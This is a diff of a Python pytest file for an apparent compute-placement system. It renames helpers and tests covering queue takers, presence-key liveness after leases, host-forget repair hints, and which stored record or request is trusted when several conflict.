-    assert Computes({HV1: Living('hv1', queues=False), HV2: Living('hv2')}).unserved(['web1']) is None
-    no_takers = Computes({HV1: Living('hv1', queues=False)})
-    assert str(no_takers.unserved(['web1'])).startswith('web1 waits in a queue, and no compute takes from queues: ')
-    assert str(no_takers.unserved(['a', 'b', 'c'])).startswith('a and 2 more wait in a queue, and no compute')
-    assert no_takers.unserved([]) is None
-    with_takers = Computes({HV2: Living('hv2', queues=True), HV1: Living('hv1', queues=True), HV3: Living('hv3')})
-    assert (with_takers.takers, with_takers.no_taker) == ([HV1, HV2], None)
+    assert (
+        Computes({HV1: PresenceFacts('hv1', queues=False), HV2: PresenceFacts('hv2')}).describe_unserved(['web1'])
+        is None
+    )
+    no_takers = Computes({HV1: PresenceFacts('hv1', queues=False)})
+    assert str(no_takers.describe_unserved(['web1'])).startswith(
+        'web1 waits in a queue, and no compute takes from queues: '
+    )
+    assert str(no_takers.describe_unserved(['a', 'b', 'c'])).startswith('a and 2 more wait in a queue, and no compute')
+    assert no_takers.describe_unserved([]) is None
+    with_takers = Computes(
+        {HV2: PresenceFacts('hv2', queues=True), HV1: PresenceFacts('hv1', queues=True), HV3: PresenceFacts('hv3')}
+    )
+    assert (with_takers.takers, with_takers.no_taker_reason) == ([HV1, HV2], None)
 
 
 class Presence(NamedTuple):
@@ -427,21 +463,21 @@ class Presence(NamedTuple):
     created: int = 1
 
 
-def test_a_presence_key_proves_life_only_if_it_was_written_since_or_every_lease_has_ended() -> None:
+def test_unproven_trusts_presence_written_since_or_after_lease_end() -> None:
     providers = {HV1: HV1, HV2: HV2, HV3: HV3, 'd': 'a-shared-disk'}
     restored = {HV1: Presence(5, 1), HV2: Presence(9, 1), HV3: Presence(9, 0)}
     restored = {f'/computes/{compute}': presence for compute, presence in restored.items()}
-    assert unproven(providers, restored, 5, has_lease_ended=False) == [HV1, HV3]
-    assert unproven(providers, restored, 5, has_lease_ended=True) == [HV3]
-    assert unproven(providers, {}, 5, has_lease_ended=True) == [HV1, HV2, HV3]
-    assert unproven({}, restored, 5, has_lease_ended=False) == []
+    assert list_unproven(providers, restored, 5, have_leases_expired=False) == [HV1, HV3]
+    assert list_unproven(providers, restored, 5, have_leases_expired=True) == [HV3]
+    assert list_unproven(providers, {}, 5, have_leases_expired=True) == [HV1, HV2, HV3]
+    assert list_unproven({}, restored, 5, have_leases_expired=False) == []
 
 
-def test_a_cure_that_names_a_command_names_one_word_for_the_host() -> None:
+def test_silent_cure_names_the_host_in_one_argument() -> None:
     """A shell would refuse the parentheses of `name (uuid)`."""
-    assert 'host forget hv2 --fenced' in silent_cure('hv2')
+    assert 'host forget hv2 --fenced' in describe_silent_fix('hv2')
     uuid = 'c0000000-0000-4000-8000-000000000003'
-    assert f'host forget {uuid} --fenced' in silent_cure(f'hv2 ({uuid})')
+    assert f'host forget {uuid} --fenced' in describe_silent_fix(f'hv2 ({uuid})')
 
 
 # The trusted record of an instance that has several keys.
@@ -453,81 +489,81 @@ TWO = '5ca1ab1e-0000-4000-8000-000000000000'
 
 
 @dataclass
-class Value:
+class StoredValue:
     value: bytes
     created: int
     revision: int = 0
 
 
-def record_at(compute: str, state: str, created: int) -> Value:
-    return Value(record_text(Record(INSTANCE, compute, state)).encode(), created)
+def make_record_value(compute: str, state: str, created: int) -> StoredValue:
+    return StoredValue(record_text(Record(INSTANCE, compute, state)).encode(), created)
 
 
-def found(*pairs: tuple[str, Value]) -> Places[Value]:
-    return by_instance(pairs)[INSTANCE]
+def find_places(*pairs: tuple[str, StoredValue]) -> EntriesByCompute[StoredValue]:
+    return group_by_instance(pairs)[INSTANCE]
 
 
 @pytest.mark.fast
 @pytest.mark.parametrize('rubbish', [b'', b'null', b'{"version": 2}', b'[' * 100])
-def test_what_cannot_be_read_at_the_older_place_hides_no_record(rubbish: bytes) -> None:
+def test_malformed_old_record_does_not_hide_the_new_one(rubbish: bytes) -> None:
     """A finished instance, whose request is deleted, must not look unfinished forever."""
-    ended = record_at(ONE, GONE, created=9)
-    pairs = [(keys.old_record(INSTANCE), Value(rubbish, 1)), (keys.record(ONE, INSTANCE), ended)]
-    assert found(*pairs).record is found(*reversed(pairs)).record is ended
-    alone = Value(rubbish, 1)
-    assert found((keys.old_record(INSTANCE), alone)).record is alone, 'it is all there is'
+    ended = make_record_value(ONE, GONE, created=9)
+    pairs = [(keys.old_record(INSTANCE), StoredValue(rubbish, 1)), (keys.record(ONE, INSTANCE), ended)]
+    assert find_places(*pairs).record is find_places(*reversed(pairs)).record is ended
+    alone = StoredValue(rubbish, 1)
+    assert find_places((keys.old_record(INSTANCE), alone)).record is alone, 'it is all there is'
 
 
 @pytest.mark.fast
-def test_of_several_that_can_be_read_the_oldest_key_is_believed() -> None:
-    first, later = record_at(ONE, ACTIVE, created=2), record_at(TWO, ACTIVE, created=5)
-    assert found((keys.record(TWO, INSTANCE), later), (keys.record(ONE, INSTANCE), first)).compute == ONE
+def test_oldest_of_several_records_is_trusted() -> None:
+    first, later = make_record_value(ONE, ACTIVE, created=2), make_record_value(TWO, ACTIVE, created=5)
+    assert find_places((keys.record(TWO, INSTANCE), later), (keys.record(ONE, INSTANCE), first)).compute == ONE
     # An instance destroyed while queued stays gone, even if a compute writes a record later.
-    unassigned = record_at('', GONE, created=2)
-    assert found(
-        (keys.record(TWO, INSTANCE), later), (keys.record('', INSTANCE), unassigned)
-    ).record is unassigned
+    unassigned = make_record_value('', GONE, created=2)
+    assert (
+        find_places((keys.record(TWO, INSTANCE), later), (keys.record('', INSTANCE), unassigned)).record is unassigned
+    )
 
 
 @pytest.mark.fast
-def test_who_is_asked_is_believed_before_who_has_a_record() -> None:
+def test_request_is_trusted_before_a_record_elsewhere() -> None:
     pairs = [
-        (keys.record(TWO, INSTANCE), record_at(TWO, ACTIVE, 1)),
-        (keys.request(ONE, INSTANCE), Value(b'{}', 7)),
+        (keys.record(TWO, INSTANCE), make_record_value(TWO, ACTIVE, 1)),
+        (keys.request(ONE, INSTANCE), StoredValue(b'{}', 7)),
     ]
-    assert (found(*pairs).compute, found(*pairs).record) == (ONE, None)
+    assert (find_places(*pairs).compute, find_places(*pairs).record) == (ONE, None)
 
 
 @pytest.mark.fast
-def test_of_several_that_are_asked_the_one_that_holds_the_claim_is_believed() -> None:
+def test_request_whose_compute_holds_the_claim_is_trusted() -> None:
     """A forged request may be older than the delivery, because the uuid is public by then."""
-    forged, genuine = Value(b'{}', 3), Value(b'{}', 7)
+    forged, genuine = StoredValue(b'{}', 3), StoredValue(b'{}', 7)
     pairs = [(keys.request(ONE, INSTANCE), forged), (keys.request(TWO, INSTANCE), genuine)]
-    pairs += [(keys.record(ONE, INSTANCE), record_at(ONE, GONE, 4))]
-    pairs += [(keys.record(TWO, INSTANCE), record_at(TWO, ACTIVE, 8))]
+    pairs += [(keys.record(ONE, INSTANCE), make_record_value(ONE, GONE, 4))]
+    pairs += [(keys.record(TWO, INSTANCE), make_record_value(TWO, ACTIVE, 8))]
     for claims, compute, queried in (
         ({TWO: [INSTANCE]}, TWO, [ONE, TWO]),
         ({ONE: [INSTANCE]}, ONE, [ONE]),
         ({ONE: [INSTANCE], TWO: [INSTANCE]}, ONE, [ONE]),
         ({ONE: ['another']}, ONE, [ONE, TWO]),
     ):
-        places, told = found(*pairs), []
+        places, queries = find_places(*pairs), []
 
-        def claims_of(each: str, claims: dict[str, list[str]] = claims, told: list[str] = told) -> list[str]:
-            told.append(each)
-            return claims.get(each, [])
+        def find_claims(compute: str, claims: dict[str, list[str]] = claims, queries: list[str] = queries) -> list[str]:
+            queries.append(compute)
+            return claims.get(compute, [])
 
-        places.judge(INSTANCE, claims_of)
-        assert (places.compute, told) == (compute, queried)
+        places.mark_claimless(INSTANCE, find_claims)
+        assert (places.compute, queries) == (compute, queried)
         assert places.record is dict(pairs)[keys.record(compute, INSTANCE)]
 
 
 @pytest.mark.fast
-def test_of_one_that_is_asked_nobody_asks_placement() -> None:
+def test_single_request_is_trusted_without_asking_placement() -> None:
     pairs = [
-        (keys.request(ONE, INSTANCE), Value(b'{}', 3)),
-        (keys.record(TWO, INSTANCE), record_at(TWO, ACTIVE, 1)),
+        (keys.request(ONE, INSTANCE), StoredValue(b'{}', 3)),
+        (keys.record(TWO, INSTANCE), make_record_value(TWO, ACTIVE, 1)),
     ]
-    places = found(*pairs)
-    places.judge(INSTANCE, lambda _: pytest.fail('asked'))
+    places = find_places(*pairs)
+    places.mark_claimless(INSTANCE, lambda _: pytest.fail('asked'))
     assert places.compute == ONE
